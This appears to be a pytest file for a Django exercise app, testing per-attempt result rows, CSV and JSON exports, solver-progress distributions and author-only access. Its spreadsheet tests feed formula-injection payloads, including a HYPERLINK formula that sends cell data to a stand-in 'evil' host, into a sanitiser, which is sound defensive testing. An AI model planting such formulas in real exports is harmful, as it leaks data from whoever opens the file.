"""Results: a row for each attempt, safe in a spreadsheet, and where everybody went."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from a09web.exercises.cells import safe
from a09web.exercises.exercise import named
from a09web.exercises.kinds.breaking import shortest
from a09web.exercises.kinds.diagnosing import proof
from a09web.exercises.models import StoredExercise, Work
from a09web.exercises.reading import values_of
from a09web.exercises.results import Row, distribution, is_solved, results, to_csv, to_json
from a09web.exercises.services import (
    actor_of,
    begin,
    exercise_of,
    hand_in,
    make_exercise,
    note_refusal,
    sandbox_for,
    take_hint,
    variant_for,
)
from a09web.sandbox.services import move_cursor, take_step
from a09web.sandbox.tree import Tree
from a09web.scenarios.address import decode
from a09web.workbooks.a09 import A09
from tests.sandbox.visiting import html, text

from .working import Solver, starter

pytestmark = pytest.mark.django_db


def worked(solver: str, key: str, *answers: dict[str, object]) -> Work:
    exercise = starter(key)
    work = begin(solver=solver, exercise=exercise)
    if exercise.kind.is_played:
        sandbox_for(work=work, exercise=exercise)
    for number, answer in enumerate(answers, start=1):
        hand_in(work=work, exercise=variant_for(solver, exercise, work), key=str(number), answer=answer)
    work.refresh_from_db()
    return work


def stepped(work: Work, *steps: str) -> None:
    sandbox = work.sandbox
    assert sandbox is not None
    for step in steps:
        take_step(
            sandbox=sandbox, tree=Tree.of(sandbox), actor=actor_of(work.solver), version=sandbox.version,
            at=sandbox.cursor, name=step,
        )  # fmt: skip


def test_there_is_a_row_for_each_attempt() -> None:
    one = worked("s1", "busy-hands", {"choice": "none"}, {"choice": "AtMostOneClaimer"})
    other = worked("s2", "the-crowded-run", {"parts": ["part4"]})
    idle = worked("s3", "case-a")
    rows = results([one, other, idle], names={"s1": "brave otter"})
    assert [(row.solver, row.exercise, row.attempt, row.score, row.best) for row in rows] == [
        ("brave otter", "busy-hands", 1, 0, 50),
        ("brave otter", "busy-hands", 2, 50, 50),
        ("s2", "the-crowded-run", 1, 100, 100),
    ]
    assert rows[1].answer == "choice: AtMostOneClaimer"
    assert rows[0].kind == "predict"


def test_a_spreadsheet_takes_no_cell_for_a_formula() -> None:
    work = worked("s1", "busy-hands", {"choice": "none"})
    text = to_csv(results([work], names={"s1": '=HYPERLINK("http://evil")'}))
    assert text.startswith("\ufeffsolver,exercise,")
    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert row["solver"] == '\'=HYPERLINK("http://evil")'
    assert list(row) == list(Row.__dataclass_fields__)
    assert json.loads(to_json(results([work])))[0]["solver"] == "s1"


def test_where_everybody_went() -> None:
    exercise = starter("back-from-the-dead")
    works = []
    for number, detour in enumerate([(), (), ("AdvanceCheckpoint",)]):
        work = worked(f"solver {number}", exercise.key)
        way = shortest(variant_for(work.solver, exercise, work)) or ()
        hand_in(
            work=work,
            exercise=variant_for(work.solver, exercise, work),
            key="1",
            answer={"steps": [*way[:2], *detour, *way[2:]]},
        )
        works.append(work)
    stuck = worked("stuck", exercise.key)
    stepped(stuck, "Tick")
    refused = worked("refused", exercise.key)
    note_refusal(work=refused, step="Claim(w1,r1)")
    waiting = worked("waiting", exercise.key)
    found = distribution([*works, stuck, refused, waiting])
    assert (found.begun, found.handed_in, found.fewest) == (6, 3, 5)
    assert [(place.name, place.count) for place in found.stuck] == [
        ("Claim refused", 1), ("after Tick", 1), ("at the start", 1)
    ]  # fmt: skip
    assert decode(found.stuck[1].example).scenario.steps == ("Tick",)
    assert found.done == sum(place.count for place in found.solved)
    assert found.shortest == 5
    for place in found.solved:
        assert len(decode(place.example).scenario.steps) == int(place.name)


def test_who_went_back_is_stuck_where_they_stand() -> None:
    exercise = starter("back-from-the-dead")
    work = worked("s1", exercise.key)
    way = shortest(variant_for("s1", exercise, work))
    assert way is not None
    stepped(work, *way)
    assert work.sandbox is not None
    sandbox = work.sandbox
    actor, version = actor_of(work.solver), sandbox.version
    move_cursor(sandbox=sandbox, tree=Tree.of(sandbox), actor=actor, version=version, to=1)
    (place,) = distribution([work]).stuck
    assert decode(place.example).scenario.steps == way[:1]


def test_where_everybody_went_with_a_form_is_a_count_of_answers() -> None:
    works = [worked(f"s{n}", "busy-hands", {"choice": c}) for n, c in enumerate(["none", "none", "AtMostOneClaimer"])]
    found = distribution(works)
    assert found.verdicts == (("wrong: Nothing", 2), ("right: AtMostOneClaimer", 1))
    assert (found.done, found.fewest, found.stuck) == (1, None, ())


def test_a_diagnosis_is_counted_by_its_evidence() -> None:
    exercise = starter("case-e")
    work = worked("s1", exercise.key)
    mine = variant_for("s1", exercise, work)
    evidence = proof(mine)
    assert evidence is not None
    hand_in(work=work, exercise=mine, key="1", answer={"bug": named(A09, mine.bugs), "steps": list(evidence.steps)})
    found = distribution([work])
    assert (found.shortest, found.fewest) == (2, 2)


def test_what_is_only_partly_right_is_not_done() -> None:
    named_only = worked("s1", "case-a", {"bug": "StaleCompletion"})
    found = distribution([named_only])
    assert (found.done, found.partly, found.shortest, found.solved) == (0, 1, None, ())
    assert found.verdicts == (("named", 1),)
    too_strong = worked("s1", "the-crowded-run", {"parts": ["part3"]})
    assert too_strong.best == 0.3
    assert (distribution([too_strong]).done, distribution([too_strong]).partly) == (0, 1)
    needless = worked("s2", "the-unwelcome-result", {"parts": ["part1", "part2", "part3"]})
    assert is_solved(needless.attempts.get()) == (needless.best >= 0.7)


def test_the_shortest_solution_is_one_whatever_it_counts() -> None:
    """Also if hints were taken before it."""
    exercise = starter("back-from-the-dead")
    work = worked("s1", exercise.key)
    mine = variant_for("s1", exercise, work)
    way = shortest(mine) or ()
    hand_in(work=work, exercise=mine, key="1", answer={"steps": [*way[:2], "AdvanceCheckpoint", *way[2:]]})
    for number in (1, 2, 3):
        take_hint(work=work, exercise=mine, number=number)
    hand_in(work=work, exercise=mine, key="2", answer={"steps": list(way)})
    assert distribution([work]).shortest == 5


def test_where_everybody_went_asks_no_more_when_more_went() -> None:
    exercise = starter("two-hands-on-one-job")

    def asked(number: int) -> int:
        for _ in range(number):
            stepped(worked(f"solver {Work.objects.count()}", exercise.key), "AdvanceCheckpoint")
        with CaptureQueriesContext(connection) as seen:
            distribution(Work.objects.all())
        return len(seen)

    assert asked(2) == asked(10) <= 6


@pytest.mark.parametrize(
    ("text", "made"),
    [
        (';=HYPERLINK("http://evil?"&A1)', ';\'=HYPERLINK("http://evil?"&A1)'),
        ("a\n=1+1", "a =1+1"),
        ("a,\r\n@SUM(1)", "a, '@SUM(1)"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("  -1", "  '-1"),
        ("\t=1", "\t'=1"),
        ("a\t=1", "a\t'=1"),
        ("Claim(w1,r1), Complete(w1,r1,1)", "Claim(w1,r1), Complete(w1,r1,1)"),
        ("brave-otter", "brave-otter"),
    ],
)
def test_no_part_of_a_cell_begins_a_formula(text: str, made: str) -> None:
    assert safe(text) == made
    assert safe(-1) == -1


# The pages of the author


def made_by(client: Client) -> StoredExercise:
    author = get_user_model().objects.create_user(f"author {StoredExercise.objects.count()}")
    client.force_login(author)
    return make_exercise(author=author, workbook=A09, values=values_of(starter("busy-hands")))


def test_an_author_sees_what_came_of_an_exercise_used_alone(client: Client) -> None:
    stored = made_by(client)
    results_page = f"/exercises/made/{stored.public_id}/results/"
    assert "Nobody has begun it yet." in text(client.get(results_page))
    student = Solver(Client(), stored.key)
    student.hand_in(choice="none")
    student.hand_in(choice="AtMostOneClaimer")
    exercise = exercise_of(stored)
    of_a_class = begin(solver="s.somebody", exercise=exercise)
    hand_in(
        work=of_a_class, exercise=variant_for("s.somebody", exercise, of_a_class), key="1", answer={"choice": "none"}
    )
    page = html(client.get(results_page))
    assert [cell.text for cell in page.all("td")][:3] == ["50", "2", "0"]
    name = [cell.text for cell in page.all("th")][-1]
    assert re.fullmatch(r"student \d{3}-\d{3}", name)
    owner = Work.objects.alone().get().solver
    table = client.get(f"/exercises/made/{stored.public_id}/results.csv")
    lines = list(csv.DictReader(io.StringIO(text(table).removeprefix("\ufeff"))))
    assert [(line["solver"], line["score"], line["answer"]) for line in lines] == [
        (name, "0", "choice: Nothing"), (name, "50", "choice: AtMostOneClaimer")
    ]  # fmt: skip
    rows_of = json.loads(text(client.get(f"/exercises/made/{stored.public_id}/results.json")))
    assert len(rows_of) == 2
    assert owner not in text(table) + json.dumps(rows_of) + text(client.get(results_page))
    assert results_page in text(client.get("/exercises/made/"))


def test_a_student_is_the_same_in_each_exercise_of_an_author_and_another_in_those_of_others(client: Client) -> None:
    def names(stored: StoredExercise) -> list[str]:
        page = html(client.get(f"/exercises/made/{stored.public_id}/results/"))
        return [cell.text for cell in page.all("th") if cell.text.startswith("student")]

    stored = made_by(client)
    other = make_exercise(author=stored.author, workbook=A09, values=values_of(starter("busy-hands")))
    ann, bob = Client(), Client()
    Solver(ann, stored.key).hand_in(choice="none")
    for each in (bob, ann):
        Solver(each, other.key).hand_in(choice="none")
    (called,) = names(stored)
    assert names(other)[1] == called != names(other)[0]
    foreign = made_by(client)
    Solver(ann, foreign.key).hand_in(choice="none")
    assert names(foreign) != [called]


def test_what_an_author_tries_is_no_result_also_what_was_begun_signed_out(client: Client) -> None:
    stored = made_by(client)
    author = get_user_model().objects.get(pk=stored.author_id)
    trial = Solver(client, stored.key)
    trial.hand_in(choice="none")
    browser = Client()
    Solver(browser, stored.key).hand_in(choice="none")
    assert list(Work.objects.order_by("pk").values_list("is_trial", flat=True)) == [True, False]
    browser.force_login(author)
    Solver(browser, stored.key).hand_in(choice="AtMostOneClaimer")
    assert "Nobody has begun it yet." in text(client.get(f"/exercises/made/{stored.public_id}/results/"))
    assert json.loads(text(client.get(f"/exercises/made/{stored.public_id}/results.json"))) == []


def test_a_refused_step_is_called_what_the_solver_read() -> None:
    (row,) = results([worked("s1", "busy-hands", {"choice": "refused"})])
    assert (row.answer, row.verdict) == ("choice: It is not enabled", "wrong: It is not enabled")


@pytest.mark.parametrize("end", ["results/", "results.csv", "results.json"])
def test_nobody_else_sees_it(client: Client, end: str) -> None:
    stored = made_by(client)
    assert client.get(f"/exercises/made/{stored.public_id}/{end}").status_code == 200
    assert client.get(f"/exercises/made/{stored.public_id}/results.exe").status_code == 404
    assert Client().get(f"/exercises/made/{stored.public_id}/{end}").status_code == 302
    other = Client()
    made_by(other)
    assert other.get(f"/exercises/made/{stored.public_id}/{end}").status_code == 404


def test_nobody_went_anywhere() -> None:
    assert distribution([]).begun == 0
    assert results([]) == []
